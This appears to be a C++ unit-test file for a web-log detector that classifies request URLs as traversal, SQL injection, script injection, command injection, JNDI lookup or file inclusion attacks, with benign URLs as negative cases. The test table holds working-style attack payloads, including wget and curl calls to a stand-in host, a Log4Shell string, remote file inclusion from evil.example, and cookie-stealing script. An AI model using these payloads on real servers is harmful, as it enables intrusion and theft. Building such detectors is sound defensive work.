#include "src/catalog/attack_patterns.h"

#include <gtest/gtest.h>

#include <string>
#include <string_view>

#include "src/catalog/target_signs.h"

namespace logstat {
namespace {

struct Example {
  std::string_view target;
  AttackKind kind;
};

constexpr Example kAttacks[] = {
    {"/view?file=../../../../etc/passwd", AttackKind::kTraversal},
    {"/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", AttackKind::kTraversal},
    {"/view?file=%252e%252e%252fboot.ini", AttackKind::kTraversal},
    {"/a/%c0%ae%c0%ae/%c0%ae%c0%ae/x", AttackKind::kTraversal},
    {"/index.php?p=..\\..\\windows\\win.ini", AttackKind::kTraversal},
    {"/x?f=/proc/self/environ%00", AttackKind::kTraversal},
    {"/a/../../etc/x.conf", AttackKind::kTraversal},
    {"/a//../../x", AttackKind::kTraversal},
    {"/../x", AttackKind::kTraversal},
    {"/a/./../../x", AttackKind::kTraversal},
    {"/%2e%2e/a/../../x", AttackKind::kTraversal},
    {"/..;/../x", AttackKind::kTraversal},
    {"/a/b/%2e%2e/x", AttackKind::kTraversal},
    {"/a/b/../c/..%2fx", AttackKind::kTraversal},
    {"/a/..;/manager/html", AttackKind::kTraversal},
    {"/a/b/..\\x", AttackKind::kTraversal},
    {"/a/../etc/passwd", AttackKind::kTraversal},
    {"/static/../WEB-INF/web.xml", AttackKind::kTraversal},
    {"/static/../%2eenv", AttackKind::kTraversal},
    {"/a/b/../x?f=../y", AttackKind::kTraversal},
    {"/item?id=1'+OR+'1'='1", AttackKind::kSql},
    {"/item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--", AttackKind::kSql},
    {"/item?id=1/**/union/**/select/**/1,2", AttackKind::kSql},
    {"/item?id=1+and+1=1", AttackKind::kSql},
    {"/item?id=1;waitfor+delay+'0:0:5'--", AttackKind::kSql},
    {"/item?id=sleep(5)", AttackKind::kSql},
    {"/item?id=1)+AND+(SELECT+1+FROM+users)", AttackKind::kSql},
    {"/find?q=%3Cscript%3Ealert(1)%3C/script%3E", AttackKind::kScript},
    {"/find?q=\"><img src=x onerror=prompt(1)>", AttackKind::kScript},
    {"/find?q=javascript:alert(document.cookie)", AttackKind::kScript},
    {"/setup.cgi?next=1;wget+http://192.0.2.1/a.sh", AttackKind::kCommand},
    {"/ping?host=127.0.0.1|id", AttackKind::kCommand},
    {"/ping?host=127.0.0.1;id", AttackKind::kCommand},
    {"/x?a=$(curl+192.0.2.1)", AttackKind::kCommand},
    {"/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array", AttackKind::kCommand},
    {"/?a=<?php+echo+1", AttackKind::kCommand},
    {"/?-d+allow_url_include%3d1", AttackKind::kCommand},
    {"/?q={{7*7}}", AttackKind::kCommand},
    {"/?x=${jndi:ldap://192.0.2.1/a}", AttackKind::kLookup},
    {"/?x=%24%7b%24%7b%3a%3a-j%7dndi%3aldap", AttackKind::kLookup},
    {"/index.php?page=http://192.0.2.1/shell", AttackKind::kInclusion},
    {"/index.php?page=http://evil.example/cmd.txt?", AttackKind::kInclusion},
    {"/index.php?page=php://filter/convert.base64-encode/resource=index", AttackKind::kInclusion},
};

TEST(AttackPatternsTest, EachKindIsFound) {
  for (const Example& example : kAttacks) {
    EXPECT_EQ(AttackKindName(FindAttack(example.target).kind), AttackKindName(example.kind)) << example.target;
  }
}

// What has no odd signs never reaches the patterns.
TEST(AttackPatternsTest, ThePrefilterLetsEachThrough) {
  for (const Example& example : kAttacks) EXPECT_TRUE(HasOddSigns(example.target)) << example.target;
}

TEST(AttackPatternsTest, HonestTargetsHaveNone) {
  for (const std::string_view target : {
           "/search?q=union+and+select+committee",
           "/search?q=O'Brien+and+sons",
           "/search?q=rock+'n'+roll",
           "/search?q=cats+and+2+dogs",
           "/list?sort=price&id=5&cat=7",
           "/list;id=5;sid=77",
           "/share?u=https://www.example.org/page.html",
           "/proxy?url=https%3A%2F%2Fimages.example.org%2Fa.png%3Fw%3D10",
           "/wiki/C%2B%2B_(language)",
           "/img/{{user.avatar}}",
           "/users(5)/orders?$filter=price%20gt%2010",
           "/a?filter[size]=10&filter[name]=x",
           "/photo?geo=48.1,11.5&tags=a|b|c",
           "/mail?to=a@example.org&subject=100%25+off",
           "/docs/etc/passwords",
           "/f?json={\"a\":[1,2],\"b\":\"c\"}",
           "/calc?expr=(a+b)*c",
           "/next?return=/account..settings",
           "/blog/select-the-best-union",
           "/search?q=drop+table+lamps",
           "/blog/../img/logo.png",
           "/a/b/../../c?d=1",
           "/a/b/..",
           "/a/../",
           "/a/../caf%C3%A9.png",
       }) {
    const Attack attack = FindAttack(target);
    EXPECT_EQ(attack.kind, AttackKind::kNone) << target << ": " << AttackKindName(attack.kind) << " " << attack.part;
  }
}

TEST(AttackPatternsTest, ThePartIsDecodedAndTheDepthIsTold) {
  const Attack attack = FindAttack("/view?file=%252e%252e%252f%252e%252e%252fETC/passwd");
  EXPECT_EQ(attack.part, "=../../etc/passwd");
  EXPECT_EQ(attack.depth, 2);
  EXPECT_EQ(FindAttack("/view?file=../../x").depth, 0);
}

TEST(AttackPatternsTest, AnyBytes) {
  std::string all;
  for (int i = 1; i < 256; ++i) all += static_cast<char>(i);
  EXPECT_EQ(FindAttack(all + "%").kind, FindAttack(all + "%").kind);
  EXPECT_EQ(FindAttack("").kind, AttackKind::kNone);
  EXPECT_EQ(FindAttack("%c0").kind, AttackKind::kNone);
  EXPECT_EQ(FindAttack(std::string(100'000, '.')).kind, AttackKind::kNone);
}

}  // namespace
}  // namespace logstat
